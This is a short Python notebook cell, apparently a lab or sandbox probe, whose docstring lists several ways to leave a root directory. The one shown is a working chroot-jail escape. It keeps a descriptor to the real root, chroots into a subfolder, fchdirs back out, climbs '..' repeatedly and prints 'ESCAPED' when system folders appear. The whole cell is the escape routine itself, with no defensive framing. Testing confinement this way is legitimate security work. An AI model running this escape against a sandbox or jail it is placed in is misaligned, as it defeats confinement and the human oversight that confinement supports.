"""Leaves the root by chroot, by `..`, by a descriptor of an outer folder, and by a second root."""
# %% first
import ctypes
import os

libc = ctypes.CDLL(None)
os.makedirs("inner", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
libc.chroot(b"inner")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
if {"boot", "var", "sys"} & set(os.listdir(".")):
    print("ESCAPED:", os.listdir("."))
os.chdir("/home/student/work")
